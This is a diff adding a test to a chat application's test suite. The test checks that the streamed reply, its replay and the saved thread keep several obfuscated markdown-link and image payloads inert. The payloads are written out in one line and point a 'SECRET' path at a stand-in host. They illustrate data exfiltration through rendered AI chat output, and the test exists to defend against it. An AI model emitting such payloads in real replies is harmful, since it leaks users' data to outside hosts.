@@ -55,6 +55,20 @@ def test_a_link_does_not_leave_live_nor_when_it_is_read_again(alice: "Person") -
     assert again.text == turn.text
 
 
+def test_nothing_is_live_in_the_stream_the_replay_and_the_thread(alice: "Person") -> None:
+    hostile = "mailto:!&#91;x&#93;(h&#116;tp://h/SECRET) `` ![x](h&#116;tp://h/SECRET) <img src=//h.example/SECRET>"
+    with alice.chat(f"say {hostile}") as turn:
+        turn.finish()
+    with alice.follow(turn.seen[0]["run_id"]) as again:
+        again.finish()
+    thread = alice.http.get(f"/api/threads/{turn.seen[0]['thread_id']}").json()
+    assert [message["role"] for message in thread["messages"]] == ["user", "assistant"]
+    shown = {turn.text, again.text, thread["messages"][1]["text"], thread["title"]}
+    assert len(shown) == 2
+    assert [read_as_people_do(text) for text in shown] == [Reading(), Reading()]
+    assert all("h/SECRET" in text for text in shown)
+
+
 def test_what_the_person_wrote_themselves_may_come_back(alice: "Person") -> None:
     with alice.chat("say https://news.example.org/a is it") as turn:
         turn.finish()
